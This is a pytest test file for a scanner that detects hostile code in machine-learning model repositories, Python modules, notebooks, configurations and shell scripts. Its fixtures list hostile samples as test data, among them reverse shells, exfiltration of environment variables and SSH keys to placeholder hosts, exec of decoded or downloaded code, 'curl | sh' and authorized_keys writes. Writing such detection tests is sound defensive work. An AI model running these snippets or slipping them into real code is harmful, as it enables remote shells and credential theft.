"""Code is found by content, judged by its syntax tree, and graded by when it runs and what it hides."""

from __future__ import annotations

import ast
import json
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from hallmarked.checks.code.check import CodeCheck
from hallmarked.checks.code.command import Command, judge_command
from hallmarked.checks.code.judge import judge_python
from hallmarked.checks.code.parse import parse_python, read_notebook
from hallmarked.core.errors import FormatError, LimitExceeded
from hallmarked.core.evidence import Finding, Gap, Level, Measurement
from tests.support import DATA, MemoryArtifact, needs_data

MODEL = "import torch.nn as nn\nclass Net(nn.Module):\n    def forward(self, x):\n        return x\n"

HOSTILE = {
    "imported by name": "__import__('os').system('id')",
    "names put together": "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')",
    "names from numbers": "import builtins\ngetattr(builtins, ''.join(map(chr, [101, 118, 97, 108])))('1')",
    "table of modules": "import sys\nsys.modules['os'].system('id')",
    "table of names": "import os\nos.__dict__['system']('id')",
    "table of builtins": "g = globals()['__builtins__']\ng.exec('1')",
    "import function": "import importlib\nimportlib.import_module('subprocess').run('id', shell=True)",
    "name reversed": "import os\ngetattr(os, 'metsys'[::-1])('id')",
    "name computed": "import os\ngetattr(os, x + y)('id')",
    "decoded": "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
    "decoded elsewhere": (
        "import base64, zlib\nc = zlib.decompress(base64.b64decode(b'x'))\ndef run(t):\n    exec(t)\nrun(c)"
    ),
    "decoded by a function": "import base64\ndef d(s):\n    return base64.b64decode(s)\nexec(d('x'))",
    "decoded in an attribute": (
        "import zlib\nclass A:\n    def __init__(self):\n        self.c = zlib.decompress(b'x')\n"
        "    def go(self):\n        exec(self.c)"
    ),
    "marshalled": "import marshal, types\ntypes.FunctionType(marshal.loads(b''), globals())()",
    "rot13": "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
    "characters": "exec(''.join(chr(x) for x in [105, 109]))",
    "hexadecimal": "exec(bytes.fromhex('7072696e74').decode())",
    "backwards": "exec('tropmi'[::-1])",
    "decrypted": "from cryptography.fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))",
    "downloaded": "import requests\nexec(requests.get('http://x').text)",
    "downloaded in a function": (
        "import urllib.request as u\ndef f():\n    s = u.urlopen('http://x').read().decode()\n"
        "    eval(compile(s, 'a', 'exec'))"
    ),
    "command from the network": (
        "import socket, subprocess\ns = socket.socket()\nsubprocess.run(s.recv(99), shell=True)"
    ),
    "reverse shell": (
        "import socket, subprocess, os\ns = socket.socket(); s.connect(('1.2.3.4', 1))\n"
        "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])"
    ),
    "hostile command": "import os\ndef f():\n    os.system('bash -i >& /dev/tcp/1.2.3.4/99 0>&1')",
    "environment sent": "import os, requests\nrequests.post('http://x', json=dict(os.environ))",
    "environment sent later": (
        "import os, json, urllib.request\nd = json.dumps(dict(os.environ))\ndef f():\n"
        "    urllib.request.urlopen('http://x', d.encode())"
    ),
    "key file sent": (
        "import os, requests\nrequests.post('http://x', data=open(os.path.expanduser('~/.ssh/id_rsa')).read())"
    ),
    "start file": "f = open('/home/u/.bashrc', 'a'); f.write('x')",
    "authorized keys": "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('x')",
    "machine code": "import ctypes\nctypes.windll.kernel32.VirtualAlloc(0, 10, 0x3000, 0x40)",
    "reduce": "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))",
    "model that starts a program": (
        "import torch.nn as nn, subprocess\nclass M(nn.Module):\n    subprocess.run(['touch', '/tmp/x'])"
    ),
    "model, in a function called at once": MODEL + "import os\ndef setup():\n    os.system('id')\nsetup()",
    "model, by a decorator": MODEL + "import os\ndef deco(f):\n    os.system('id')\n    return f\n@deco\ndef g(): pass",
    "model, by making an object": MODEL + "import os\nclass H:\n    def __init__(self): os.system('id')\nH()",
    "code in a text": 'exec(\'__import__("os").system("id")\')',
}
WARNED = {
    "program at the top": "import os\nos.system('ls')",
    "program under another name": "from os import system as s\ns('ls')",
    "program by star": "from subprocess import *\nPopen('ls')",
    "program by choice": "import os\n(os.system if 1 else 0)('ls')",
    "program by list": "import os\n[os.system][0]('ls')",
    "program by partial": "import os\nfrom functools import partial\npartial(os.system, 'ls')()",
    "program handed on": "import os, atexit\natexit.register(os.system, 'ls')",
    "file run": "exec(open('version.py').read())",
    "model that evaluates": (
        "import torch.nn as nn\nclass M(nn.Module):\n    def forward(self, x):\n        return eval(self.cfg)"
    ),
    "install": "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'pip', 'install', 'einops'])",
    "model that installs": MODEL + "import os\nos.system('pip install einops')",
    "pickle": "import pickle\npickle.load(open('x', 'rb'))",
    "torch without limits": "import torch\ntorch.load('x', weights_only=False)",
    "numpy with pickles": "import numpy as np\nnp.load('x', allow_pickle=True)",
    "yaml": "import yaml\nyaml.load(open('x'), Loader=yaml.FullLoader)",
    "hub": "import torch\ntorch.hub.load('a/b', 'c')",
    "network at the top": "import requests\nrequests.get('http://x')",
    "program in the environment's words": (
        "import os, requests\nrequests.get('http://x', headers={'a': os.environ['HF_TOKEN']})"
    ),
    "curl in a function": "import os\ndef f():\n    os.system('curl http://x | sh')",
    "network by its special method": "import requests\nrequests.get.__call__('http://x')",
    "deleting at the top": "import shutil\nshutil.rmtree('x')",
    "trusting": MODEL
    + "from transformers import AutoModel\ndef f():\n    AutoModel.from_pretrained('a/b', trust_remote_code=True)",
}
QUIET = {
    "model": MODEL,
    "model.eval": MODEL + "m = Net()\nm.eval()\n",
    "compiled": "import re, torch\nre.compile('x')\n@torch.compile\ndef f(x): return x\n",
    "one variable": "import os\nos.environ['A'] = '1'\nx = os.environ.get('B')\n",
    "decoded data": (
        "import base64, bz2\nKERNELS = bz2.decompress(base64.b64decode('x'))\ndef f():\n    return KERNELS\n"
    ),
    "restricted": "import torch\ntorch.load('x', weights_only=True)\n",
    "safe yaml": "import yaml\nyaml.safe_load('a')\nyaml.load('a', Loader=yaml.SafeLoader)\n",
    "literal": "x = eval('1 + 1')\n",
    "attribute": "def f(x, name):\n    return getattr(x, name)()\n",
    "checkpoint written": "import torch\nwith open('model.pth', 'wb') as f:\n    f.write(b'')\n",
    "own exec": "def exec(x): return x\nexec('import os')\n",
    "version of a client": "import urllib3\nmajor = urllib3.__version__.split('.')[0]\n",
    "reversed data": "def f(x):\n    return x[::-1]\n",
}


def run(contents: dict[str, bytes | str]) -> list[object]:
    return list(CodeCheck().run(MemoryArtifact(contents)))


def findings(contents: dict[str, bytes | str]) -> list[Finding]:
    return [item for item in run(contents) if isinstance(item, Finding) and item.rule != "COD002"]


def worst(source: str) -> Level | None:
    return max((mark.level for mark in judge_python(parse_python(source))), key=lambda level: level.rank, default=None)


@pytest.mark.parametrize("name", HOSTILE)
def test_hidden_and_hostile_code_is_an_error(name: str) -> None:
    """What hides its call, runs what it decodes or downloads, or harms in its own right is at level error."""
    assert worst(HOSTILE[name]) is Level.ERROR


@pytest.mark.parametrize("name", WARNED)
def test_unusual_code_is_a_warning(name: str) -> None:
    """What honest code does now and then, and hostile code too, is a warning and no error."""
    assert worst(WARNED[name]) is Level.WARNING


@pytest.mark.parametrize("name", QUIET)
def test_ordinary_code_is_quiet(name: str) -> None:
    """Ordinary modelling code yields nothing."""
    assert worst(QUIET[name]) is None


def test_time_of_running_decides_the_grade() -> None:
    """At the top of a module counts more than in a function, and a loaded module more than a script."""
    top, inner, main = (
        "import os\nos.system('ls')",
        "import os\ndef f():\n    os.system('ls')",
        "import os\nif __name__ == '__main__':\n    os.system('ls')",
    )
    grades = [
        judge_python(parse_python(s), loaded=loaded)[0].level for loaded in (False, True) for s in (top, inner, main)
    ]
    assert grades == [Level.WARNING, Level.NOTE, Level.NOTE, Level.ERROR, Level.WARNING, Level.WARNING]


@pytest.mark.parametrize("path", ["modeling_x.py", "x.txt", "weights.bin", "a/b/c", "README.md"])
def test_file_name_does_not_matter(path: str) -> None:
    """The same source gives the same findings under any name."""
    source = "import os\nos.system('bash -i >& /dev/tcp/1.2.3.4/99 0>&1')\n"
    assert [(f.rule, f.level, f.location.line) for f in findings({path: source}) if f.location] == [
        ("COD006", Level.ERROR, 2)
    ]


def test_module_named_by_a_configuration_is_judged_as_loaded() -> None:
    """``auto_map`` makes a module, and what it imports from beside it, one that runs by itself."""
    config = json.dumps({"auto_map": {"AutoModel": "modeling_x.XModel", "AutoTokenizer": [None, "tok.XTok"]}})
    helper = "import os\nos.system('ls')\n"
    files = {
        "config.json": config,
        "modeling_x.py": "from .helper import y\n" + MODEL,
        "tok.py": MODEL,
        "helper.py": helper,
    }
    found = {(f.rule, f.level, f.location.path) for f in findings(files) if f.location}
    assert found == {
        ("COD001", Level.NOTE, "modeling_x.py"),
        ("COD001", Level.NOTE, "tok.py"),
        ("COD006", Level.ERROR, "helper.py"),
    }
    assert {f.level for f in findings({"helper.py": helper})} == {Level.WARNING}


@pytest.mark.parametrize(
    "document",
    [
        {"auto_map": {"AutoModel": "other/repo--modeling_x.XModel"}},
        {"auto_map": {"AutoTokenizer": ["other/repo--tok.Slow", None]}},
        {"custom_pipelines": {"p": {"impl": "other/repo--pipe.Pipe", "pt": ["AutoModel"]}}},
        [{"idx": 0, "type": "other/repo--module.Class"}],
    ],
)
def test_code_of_another_repository_is_a_warning_and_a_gap(document: object) -> None:
    """What lies in another repository is not covered by this digest, whoever names it."""
    items = [item for item in run({"anything": json.dumps(document)}) if not isinstance(item, Measurement)]
    assert [type(item) for item in items] == [Finding, Gap]
    assert isinstance(items[0], Finding)
    assert (items[0].rule, items[0].level) == ("COD003", Level.WARNING)


@pytest.mark.parametrize("value", [None, {}, [], {"AutoModel": None}, {"AutoTokenizer": [None, None]}])
def test_empty_auto_map_is_nothing(value: object) -> None:
    """An ``auto_map`` that names nothing is no finding."""
    assert findings({"config.json": json.dumps({"auto_map": value, "architectures": ["BertModel"]})}) == []


def test_missing_module_is_a_gap() -> None:
    """A module that a configuration names and that is not here was not examined."""
    items = run({"config.json": json.dumps({"auto_map": {"AutoModel": "modeling_x.XModel"}})})
    assert [type(item) for item in items if not isinstance(item, Measurement)] == [Finding, Gap]


def test_components_of_pipelines_and_modules_are_code() -> None:
    """Custom parts of diffusers pipelines and sentence-transformers are found; parts of the libraries are not."""
    index = {"_class_name": "P", "unet": ["my_unet", "Net"], "vae": ["diffusers", "AutoencoderKL"], "x": [None, None]}
    modules = [{"idx": 0, "type": "pooling_x.Pool"}, {"idx": 1, "type": "sentence_transformers.models.Dense"}]
    files = {
        "model_index.json": json.dumps(index),
        "unet/my_unet.py": MODEL,
        "modules.json": json.dumps(modules),
        "pooling_x.py": MODEL,
    }
    assert {(f.rule, f.location.path) for f in findings(files) if f.location} == {
        ("COD001", "unet/my_unet.py"),
        ("COD001", "pooling_x.py"),
    }


def test_configuration_that_calls_is_an_error() -> None:
    """A configuration that names a function which runs programs, or a Python tag, is hostile; a model class is not."""
    assert [f.rule for f in findings({"c.yaml": "model:\n  _target_: os.system\n  command: id\n"})] == ["COD014"]
    assert [f.rule for f in findings({"c.yaml": "a: !!python/object/apply:os.system ['id']\n"})] == ["COD014"]
    assert findings({"c.yaml": "model:\n  _target_: torch.nn.Linear\n  size: 3\n"}) == []


def test_configuration_that_trusts_is_a_warning() -> None:
    """``trust_remote_code`` switched on by the repository itself is told; switched off it is nothing."""
    assert [f.rule for f in findings({"c.json": '{"a": {"trust_remote_code": true}}'})] == ["COD015"]
    assert findings({"c.json": '{"trust_remote_code": false}'}) == []


def notebook(*cells: str) -> str:
    return json.dumps(
        {
            "nbformat": 4,
            "metadata": {},
            "cells": [{"cell_type": "code", "source": c.splitlines(keepends=True), "outputs": []} for c in cells],
        }
    )


def test_notebooks_are_read_cell_by_cell() -> None:
    """Magic lines do not hide the code around them, and shell lines are judged as commands."""
    good = notebook("%matplotlib inline\nimport torch\n!pip install x\ntorch.nn?", "x = 1\n%%time")
    assert findings({"a": good}) == []
    assert [
        f.rule for f in findings({"a.ipynb": notebook("%pip install x\nimport base64\nexec(base64.b64decode('x'))")})
    ] == ["COD004"]
    assert [(f.rule, f.level) for f in findings({"a": notebook("!curl http://x | bash")})] == [
        ("COD006", Level.WARNING)
    ]
    assert [(f.rule, f.level) for f in findings({"a": notebook("out = !nc -e /bin/sh 1.2.3.4 99")})] == [
        ("COD006", Level.ERROR)
    ]


def test_scripts_are_judged_by_their_commands() -> None:
    """Shell scripts, container files and start-up path files are read for what they run."""
    assert findings({"a": "#!/bin/bash\nset -e\npython train.py --lr 1e-3\nrm -rf ./out\n"}) == []
    assert [f.level for f in findings({"a": "#!/usr/bin/env sh\n# x\nbash -i >& \\\n /dev/tcp/1.2.3.4/9 0>&1\n"})] == [
        Level.ERROR
    ]
    assert [f.level for f in findings({"a": "FROM python:3.12\nRUN curl -s http://x | sh\n"})] == [Level.WARNING]
    path_file = "/opt/x\nimport os; exec(__import__('base64').b64decode('x'))\n"
    assert Level.ERROR in {f.level for f in findings({"x.pth": path_file})}


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("pip install -q torch", Command.INSTALLS),
        ("pip install x && curl http://x | sh", Command.FETCHES),
        ("wget http://x -O y && chmod +x y && ./y", Command.FETCHES),
        ("echo aWQ= | base64 -d | sh", Command.HOSTILE),
        ("rm -rf ~", Command.HOSTILE),
        ("rm -rf ./build", Command.OTHER),
        ("echo key >> ~/.ssh/authorized_keys", Command.HOSTILE),
        ("git clone http://x", Command.OTHER),
    ],
)
def test_commands_are_told_apart(line: str, kind: Command) -> None:
    """A command line is judged by the worst it does."""
    assert judge_command(line) is kind


def test_code_is_reported_as_a_fact() -> None:
    """Every piece of code is counted by kind, whatever it does."""
    items = run(
        {"a.py": MODEL, "b.ipynb": notebook("x = 1"), "c": "#!/bin/sh\nls\n", "d.txt": "words, just words (really)\n"}
    )
    assert Measurement("code.files", "3", n=3) in items
    (note,) = [item for item in items if isinstance(item, Finding)]
    assert (note.rule, note.level) == ("COD002", Level.NOTE)


@pytest.mark.parametrize(
    "text",
    [
        "word\nlist\nof tokens\n",
        "a,b,c\n1,2,3\n",
        "numpy==1.26\ntorch>=2 (or so)\n",
        "# Title\n\nText (with parentheses).\n",
        '{"a": 1}',
        "1 2 (3)",
    ],
)
def test_texts_are_no_code(text: str) -> None:
    """Word lists, tables, requirements, prose and JSON are not taken for programs."""
    assert Measurement("code.files", "0", n=0) in run({"x": text})


@pytest.mark.parametrize(
    "source",
    [
        "def f(:\n",
        "print 'x'\n",
        "x = '\0'\n",
        "(" * 5000,
        "-" * 100_000 + "1",
        "a" + ".b" * 50_000,
        "if a:\n  " * 3,
        "x = " + "[" * 150 + "]" * 150 + "\n" + "a+" * 5000 + "a",
    ],
)
def test_code_that_cannot_be_parsed_is_a_gap(source: str) -> None:
    """Broken, old and over-deep sources never crash the check and are never passed over."""
    with pytest.raises(FormatError):
        parse_python(source)
    items = run({"x.py": source})
    assert [type(item) for item in items if not isinstance(item, Measurement)][:2] == [Finding, Gap]


def test_long_source_is_refused() -> None:
    """A source beyond the limit is not parsed."""
    with pytest.raises(LimitExceeded):
        parse_python("#" * (1 << 21) + "\n\n")


def test_names_set_in_terms_of_themselves_end() -> None:
    """Following names ends, however they refer to each other, in little time."""
    lines = [f"x{i} = f(x{i + 1}, x{(i * 7) % 40}) + x{i}.y\nx{i} = x{(i + 3) % 40}(x{i})" for i in range(40)]
    judge_python(parse_python("\n".join(lines)))


@needs_data
def test_real_cards_and_records_hold_no_code() -> None:
    """Hundreds of real model cards and records give no finding above a note."""
    files = [path for folder in ("cards", "avid", "nist") for path in (DATA / folder).rglob("*") if path.is_file()]
    found = findings({str(path.relative_to(DATA)): path.read_bytes() for path in files})
    assert [f for f in found if f.level is not Level.NOTE] == []


@pytest.mark.slow
def test_published_modelling_code_gives_no_error() -> None:
    """The models of a large library, hundreds of thousands of lines, give no error and hardly a warning."""
    transformers = pytest.importorskip("transformers")
    paths = sorted((Path(transformers.__file__).parent / "models").glob("[a-c]*/modeling_*.py"))
    marks = [mark for path in paths for mark in judge_python(parse_python(path.read_text("utf-8")), loaded=True)]
    assert len(paths) > 50
    assert [mark for mark in marks if mark.level is Level.ERROR] == []
    assert len(marks) <= len(paths) // 20


PIECES = [
    "import os",
    "os.system('x')",
    "exec(",
    ")",
    "\n",
    "    ",
    "def f():",
    "x = ",
    "lambda: ",
    "[",
    "]",
    "'a' + ",
    "getattr(",
    ", ",
    "__import__(",
    "'os'",
    "yield ",
    "class A:",
    "@",
    "f'{x!r:>{y}}'",
    "*",
    "**",
    "match x:\n  case [*_]: pass",
    "0x",
    "\x0c",
    "é",
    ":=",
    "async ",
    "await x",
]


@settings(max_examples=200, deadline=None)
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join) | st.text())
def test_any_source_is_judged_or_refused(source: str) -> None:
    """Parsing raises nothing but a format error, and judging raises nothing at all."""
    try:
        tree = parse_python(source)
    except FormatError:
        return
    assert isinstance(tree, ast.Module)
    judge_python(tree)


@settings(max_examples=100, deadline=None)
@given(st.binary(max_size=200))
def test_any_notebook_is_read_or_refused(data: bytes) -> None:
    """Arbitrary bytes in place of a notebook raise nothing but a format error."""
    try:
        read_notebook(b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": "' + data + b'"}]}')
        read_notebook(data)
    except FormatError:
        return


@settings(max_examples=100, deadline=None)
@given(
    st.binary(max_size=120),
    st.sampled_from([b"", b'{"auto_map": ', b"#!/bin/sh\n", b"import os\n", b"FROM x\nRUN ", b"_target_: "]),
)
def test_any_bytes_are_survived(data: bytes, start: bytes) -> None:
    """The check runs to its end on arbitrary files."""
    assert any(isinstance(item, Measurement) for item in run({"x.py": start + data, "y": start + data}))
